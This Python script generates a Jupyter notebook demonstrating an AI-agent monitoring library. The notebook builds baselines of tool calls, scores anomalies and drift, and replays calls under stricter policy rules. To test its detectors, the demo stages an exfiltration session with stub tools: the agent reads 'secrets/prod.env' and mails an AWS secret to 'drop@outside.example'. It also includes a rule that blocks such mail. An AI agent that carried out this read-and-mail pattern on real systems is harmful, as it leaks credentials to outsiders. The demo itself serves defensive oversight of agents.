"""Writes notebooks/04_policy_workbench.ipynb (run: python notebooks/_make_04_workbench.py)."""

from __future__ import annotations

from pathlib import Path

import nbformat

CELLS: list[tuple[str, str]] = [
    ("md", """# Policy workbench: baseline, drift, anomalies and what-if replay

A scripted agent runs in **observe** mode (every call runs; Thoth records what it *would* have decided), and
its traffic becomes a behavioral baseline. Then the agent changes: it starts running code, and one session
reads a secret and mails it outside. We let the detectors find both, look at a two-day history with a planted
drift, and try a stricter policy against the recorded calls before switching it on. Offline, no API keys."""),
    ("code", """import os, tempfile
# A private THOTH_HOME so this demo's store never mixes with your own (~/.thoth_nb).
os.environ.setdefault("THOTH_HOME", tempfile.mkdtemp(prefix="thoth-nb-workbench-"))
os.makedirs(os.environ["THOTH_HOME"], exist_ok=True)
import random
import uuid

import thoth_nb
from thoth_nb.analytics import plots
from thoth_nb.analytics.replay import rule_counts
print("events go to", os.environ["THOTH_HOME"])"""),
    ("md", """## 1. A scripted agent in observe mode

Five tools. `ran` counts real executions, so we can check later that replay never runs a tool."""),
    ("code", """ran = []

def web_search(query: str) -> str:
    ran.append("web_search"); return f"results for {query}"

def read_file(path: str) -> str:
    ran.append("read_file"); return f"contents of {path}"

def summarize(text: str) -> str:
    ran.append("summarize"); return text[:20]

def send_email(to: str, subject: str, body: str) -> str:
    ran.append("send_email"); return "sent"

def run_code(code: str) -> str:
    ran.append("run_code"); return "ok"

class Agent:
    def __init__(self):
        self.tools = [web_search, read_file, summarize, send_email, run_code]

    def call(self, name, **kwargs):
        return next(t for t in self.tools if t.__name__ == name)(**kwargs)

SCOPE = ["web_search", "read_file", "summarize", "send_email", "run_code"]
rng = random.Random(7)

def session(agent, mix, calls=12):
    \"\"\"One governed session: a new session id, `calls` tool calls drawn from `mix`.\"\"\"
    thoth_nb.instrument(agent, agent_id="researcher", approved_scope=SCOPE, tenant_id="local",
                        enforcement="observe", session_id=str(uuid.uuid4()))
    for _ in range(calls):
        tool = rng.choices(list(mix), weights=list(mix.values()))[0]
        args = {"web_search": {"query": f"topic {rng.randrange(50)}"},
                "read_file": {"path": f"docs/report_{rng.randrange(20)}.md"},
                "summarize": {"text": "section"},
                "send_email": {"to": "team@corp.example", "subject": "notes", "body": "see attached"},
                "run_code": {"code": "print(1)"}}[tool]
        agent.call(tool, **args)

NORMAL = {"web_search": 0.5, "read_file": 0.3, "summarize": 0.17, "send_email": 0.03}
agent = Agent()
for _ in range(60):
    session(agent, NORMAL)
print(len(ran), "tool runs")"""),
    ("md", """Then the agent changes: new sessions lean on `run_code`, and one session reads `secrets/prod.env` and
mails it outside. Still observe mode: everything runs, and is recorded."""),
    ("code", """import datetime as dt

cutoff = dt.datetime.now(dt.timezone.utc)
DRIFTED = {"web_search": 0.2, "read_file": 0.2, "summarize": 0.1, "run_code": 0.5}
for _ in range(30):
    session(agent, DRIFTED)
thoth_nb.instrument(agent, agent_id="researcher", approved_scope=SCOPE, tenant_id="local",
                    enforcement="observe", session_id="exfil-session")
agent.call("read_file", path="docs/report_1.md")
agent.call("read_file", path="secrets/prod.env")
agent.call("send_email", to="drop@outside.example", subject="fyi", body="AWS_SECRET=...")
thoth_nb.flush()
events = thoth_nb.events()
history = events[events["occurred_at"] <= cutoff]
later = events[events["occurred_at"] > cutoff]
print(len(history), "events before the change,", len(later), "after")"""),
    ("md", """## 2. The baseline

Learnt from the observe-mode calls before the change: tool shares, argument shapes (keys and value types),
tool bigrams (P(next tool | previous tool)) and call rate. Every analytics function returns a DataFrame and
documents its formula (`help(thoth_nb.baseline)`)."""),
    ("code", """baseline = thoth_nb.baseline(history, mode="observe")
baseline[baseline["kind"].isin(["tool", "shape"])]"""),
    ("code", """plots.usage_chart(baseline)"""),
    ("md", """## 3. Did the detectors notice?"""),
    ("md", """### Anomaly scores

Per call: `rare_tool`, `unseen_shape`, `rate_burst`, `unusual_sequence` and `exfiltration` (an outbound tool
after a call that touched secrets), each in [0, 1], combined as 100 · (1 − Π(1 − wᵢ·fᵢ)). Per session: the
highest call score, with its top factor."""),
    ("code", """scores = thoth_nb.anomaly_scores(later, baseline)
by_session = thoth_nb.session_scores(scores)
print("planted exfiltration found:", by_session.iloc[0]["session_id"] == "exfil-session")
by_session.head(5)"""),
    ("code", """plots.session_chart(by_session)"""),
    ("md", """### Drift

Jensen–Shannon divergence (base 2, 0 = same mix, 1 = disjoint) of the new traffic's tool mix from the
baseline. Here one window spans all the new traffic."""),
    ("code", """import pandas as pd

span = later["occurred_at"].max() - later["occurred_at"].min() + pd.Timedelta("1s")
recent = thoth_nb.drift(later, baseline, window=span, min_calls=20)
print("drift detected after the shift:", bool(recent["drifted"].any()))
recent"""),
    ("md", """## 4. Two days of history with a planted drift

`thoth_nb.analytics.synthetic.synthetic_events` generates a history shaped like `thoth_nb.events()`: two
agents, stationary mixes, and from the middle on the research agent drifts. Rolling 2-hour windows every
30 minutes."""),
    ("code", """from thoth_nb.analytics.synthetic import synthetic_events

generated = synthetic_events(20_000, seed=1, drift_at=0.5, exfiltration=True)
rolling = thoth_nb.drift(generated, window="2h", step="30min")
first = rolling[rolling["drifted"]].groupby("agent_id", observed=True)["window_end"].min()
print("first drifted window per agent:", first.to_dict())
plots.drift_chart(rolling)"""),
    ("code", """calls = thoth_nb.anomaly_scores(generated)
plots.anomaly_chart(calls)"""),
    ("md", """## 5. What if we had enforced a stricter policy?

`thoth_nb.replay` re-decides every recorded call under a candidate policy with a fresh engine over a scratch
store: nothing runs, nothing is written to your store. The sequence rule blocks mail to outside domains after a
read under `secrets/`."""),
    ("code", r'''STRICTER = r"""
rules:
  - id: no-exfil-after-secrets
    tool: send_email
    when: {to: {regex: "@(?!corp\\.example$)"}}
    after: [{tool: read_file, when: {path: {regex: "(^|/)secrets/"}}}]
    decision: block
    severity: critical
    reason: mail outside the company after reading secrets
  - id: code-needs-review
    tool: run_code
    decision: step_up
    severity: medium
"""
runs_before = len(ran)
changes = thoth_nb.replay(events, policy=STRICTER, mode="block")
print("tools run by the replay:", len(ran) - runs_before)
print(changes.attrs["thoth_replay"]["transitions"])
rule_counts(changes)'''),
    ("code", """changes[["occurred_at", "session_id", "tool_name", "tool_args", "before", "after", "after_rules"]].tail(5)"""),
    ("md", """### Progressive mode

In progressive mode the engine adds a risk score (rule severity, rare tool for the agent, rate burst):
low risk allows, medium steps up, high blocks (`risk_thresholds: {step_up: 40, block: 80}`), and it never
softens a rule (§8: a session's first violation steps up, then it blocks). Replaying in progressive mode
shows which calls the score alone would have held, with the factors that drove it."""),
    ("code", """progressive = thoth_nb.replay(events, policy=STRICTER, mode="progressive", changes_only=False)
held = progressive[progressive["after"].astype(str) != "ALLOW"]
held[["tool_name", "after", "after_rules", "risk_score", "after_reason"]].drop_duplicates("tool_name")"""),
    ("md", """## 6. The dashboard

`%thoth dashboard` shows it all inline: sessions, violations with their explanation, approvals, the policy and
its versions, and these charts. Saved notebooks keep a static snapshot."""),
    ("code", """%load_ext thoth_nb
%thoth dashboard"""),
]


def main() -> None:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [nbformat.v4.new_markdown_cell(src) if kind == "md" else nbformat.v4.new_code_cell(src)
                for kind, src in CELLS]
    nbformat.write(nb, Path(__file__).with_name("04_policy_workbench.ipynb"))


if __name__ == "__main__":
    main()
